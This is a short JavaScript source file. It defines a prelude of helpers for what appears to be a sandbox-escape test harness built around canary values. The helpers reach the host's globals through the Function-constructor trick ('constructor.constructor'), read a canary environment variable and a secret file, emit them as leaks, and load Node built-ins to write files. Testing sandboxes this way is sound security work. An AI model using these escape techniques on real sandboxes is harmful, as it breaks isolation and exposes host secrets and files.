/**
 * What every body can use. `P` is where the canaries are, never what is in them. `climb` takes anything that may be of the host's
 * realm and tells what can be had from there; `host` finds any way to the globals of Node.js.
 */
export const PRELUDE = `
const emit = (kind, value) => api.emit(kind + ':' + String(value));
const prove = (what) => emit('proof', what + ':' + P.token);
const loot = (globals) => {
  if (globals[P.global] !== undefined) emit('leak', globals[P.global]);
  const node = globals.process;
  if (!node) return;
  try { emit('leak', node.env[P.env]); } catch {}
  emit('leak', node.getBuiltinModule('fs').readFileSync(P.secret, 'utf8'));
};
const climb = (thing) => loot(thing.constructor.constructor('return globalThis')());
const host = () => {
  const isNode = (globals) => typeof globals?.process?.getBuiltinModule === 'function';
  const starts = [() => globalThis, () => api.emit, () => api.object, () => api, () => api.call, () => api.promise];
  for (const start of starts) {
    try {
      const thing = start();
      if (isNode(thing)) return thing;
      const globals = thing.constructor.constructor('return globalThis')();
      if (isNode(globals)) return globals;
    } catch {}
  }
  throw new Error('no way to the host');
};
const builtin = (name) => {
  const found = host().process.getBuiltinModule(name);
  if (!found) throw new Error('no ' + name);
  return found;
};
const heard = (emitter, event) => new Promise((resolve) => { emitter.on(event, resolve); emitter.on('error', resolve); });
const writing = (path) => 'process.getBuiltinModule("fs").writeFileSync(' + JSON.stringify(path) + ', "x")';
`;
